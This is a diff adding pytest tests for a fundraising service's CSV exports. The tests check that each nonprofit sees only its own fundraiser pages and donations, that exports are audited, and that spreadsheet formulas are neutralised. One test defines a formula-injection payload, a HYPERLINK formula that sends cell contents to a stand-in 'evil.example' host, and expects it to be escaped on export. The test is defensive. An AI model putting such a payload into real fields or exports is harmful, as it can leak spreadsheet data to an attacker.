@@ -1,0 +1,162 @@
+"""Fundraiser CSVs for a nonprofit's API key (#15): their rows only, formula-safe, audited."""
+
+from __future__ import annotations
+
+import httpx
+import pytest
+
+from service import audit
+from service.db import Database
+from service.settings import Settings
+from tests.campaigns.dashboard.fundraisers_scene import Scene, build_scene, gift
+from tests.campaigns.fundraising.helpers import live_page
+from tests.campaigns.giving.conftest import app, stripe_double
+from tests.exports.builders import header, parse_csv
+from tests.mail_server import SmtpServer
+
+__all__ = ["app", "stripe_double"]
+FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Refund")'
+
+
+@pytest.fixture
+async def scene(
+    client: httpx.AsyncClient, database: Database, settings: Settings, smtp_server: SmtpServer
+) -> Scene:
+    return await build_scene(client, database, settings, smtp_server)
+
+
+class TestFundraisersCsv:
+    async def test_one_row_per_own_page_with_raised_and_distinct_donors(
+        self, client: httpx.AsyncClient, scene: Scene
+    ) -> None:
+        response = await client.get("/api/v1/exports/fundraisers.csv", headers=scene.org.headers)
+
+        assert response.status_code == 200
+        assert response.headers["content-type"].startswith("text/csv")
+        assert "nonprofit" not in header(response) and "distinct_donors" in header(response)
+        rows = {row["fundraiser_id"]: row for row in parse_csv(response)}
+        assert set(rows) == {str(scene.runner.id), str(scene.waiting.id)}
+        runner, waiting = rows[str(scene.runner.id)], rows[str(scene.waiting.id)]
+        assert (runner["raised"], runner["currency"], runner["distinct_donors"], runner["goal"]) == (
+            "85.00",
+            "EUR",
+            "2",
+            "500.00",
+        )
+        assert (waiting["status"], waiting["raised"], waiting["distinct_donors"], waiting["team"]) == (
+            "pending_approval",
+            "0.00",
+            "0",
+            "",
+        )
+
+    async def test_filters_narrow_and_never_widen_past_the_organisation(
+        self, client: httpx.AsyncClient, scene: Scene
+    ) -> None:
+        live_only = await client.get(
+            "/api/v1/exports/fundraisers.csv", params={"status": "live"}, headers=scene.org.headers
+        )
+        other = await client.get(
+            "/api/v1/exports/fundraisers.csv",
+            params={"campaign_id": scene.other_campaign["id"]},
+            headers=scene.org.headers,
+        )
+        bad = await client.get(
+            "/api/v1/exports/fundraisers.csv", params={"status": "x"}, headers=scene.org.headers
+        )
+
+        assert [r["fundraiser_id"] for r in parse_csv(live_only)] == [str(scene.runner.id)]
+        assert parse_csv(other) == []
+        assert bad.status_code == 422
+
+
+class TestFundraiserDonationsCsv:
+    async def test_each_gift_through_a_page_with_its_fundraiser_and_team(
+        self, client: httpx.AsyncClient, scene: Scene
+    ) -> None:
+        response = await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.org.headers)
+
+        rows = parse_csv(response)
+        assert [r["donation_id"] for r in rows] == scene.gifts
+        assert {(r["fundraiser_id"], r["fundraiser"], r["team"]) for r in rows} == {
+            (str(scene.runner.id), "Anna de Vries", "Runners")
+        }
+        assert [(r["amount"], r["status"]) for r in rows] == [
+            ("25.00", "confirmed"),
+            ("10.00", "confirmed"),
+            ("50.00", "confirmed"),
+        ]
+        anonymous = rows[2]
+        assert (anonymous["anonymous"], anonymous["donor_name"], anonymous["donor_email"]) == ("true", "", "")
+
+    async def test_another_organisations_gifts_never_appear(
+        self,
+        client: httpx.AsyncClient,
+        database: Database,
+        settings: Settings,
+        smtp_server: SmtpServer,
+        scene: Scene,
+    ) -> None:
+        theirs = await gift(
+            client,
+            database,
+            settings,
+            scene.other_campaign["slug"],
+            fundraiser=scene.other_page.slug,
+            email="theirs@example.org",
+            card="c" * 16,
+        )
+
+        mine = parse_csv(
+            await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.org.headers)
+        )
+        narrowed = parse_csv(
+            await client.get(
+                "/api/v1/exports/fundraiser-donations.csv",
+                params={"fundraiser_id": str(scene.other_page.id)},
+                headers=scene.org.headers,
+            )
+        )
+        their_own = parse_csv(
+            await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.other_org.headers)
+        )
+
+        assert theirs not in {r["donation_id"] for r in mine}
+        assert narrowed == []
+        assert [r["donation_id"] for r in their_own] == [theirs]
+
+    async def test_formulas_in_names_are_defused_and_each_download_is_audited(
+        self,
+        client: httpx.AsyncClient,
+        database: Database,
+        settings: Settings,
+        smtp_server: SmtpServer,
+        scene: Scene,
+    ) -> None:
+        page = await live_page(
+            client, database, smtp_server, scene.other_campaign["slug"], name=FORMULA, email="f@example.org"
+        )
+        await gift(
+            client,
+            database,
+            settings,
+            scene.other_campaign["slug"],
+            fundraiser=page.slug,
+            email="g@example.org",
+            card="d" * 16,
+            name="@SUM(1+1)",
+        )
+
+        pages = parse_csv(
+            await client.get("/api/v1/exports/fundraisers.csv", headers=scene.other_org.headers)
+        )
+        gifts = parse_csv(
+            await client.get("/api/v1/exports/fundraiser-donations.csv", headers=scene.other_org.headers)
+        )
+
+        assert "'" + FORMULA in {r["name"] for r in pages}
+        assert [(r["fundraiser"], r["donor_name"]) for r in gifts] == [("'" + FORMULA, "'@SUM(1+1)")]
+        async with database.transaction() as session:
+            downloads = await audit.list_entries(session, action="export.download")
+        assert sorted(e.subject_id for e in downloads) == ["fundraiser-donations", "fundraisers"]
+        assert {str(e.nonprofit_id) for e in downloads} == {scene.other_org.id}
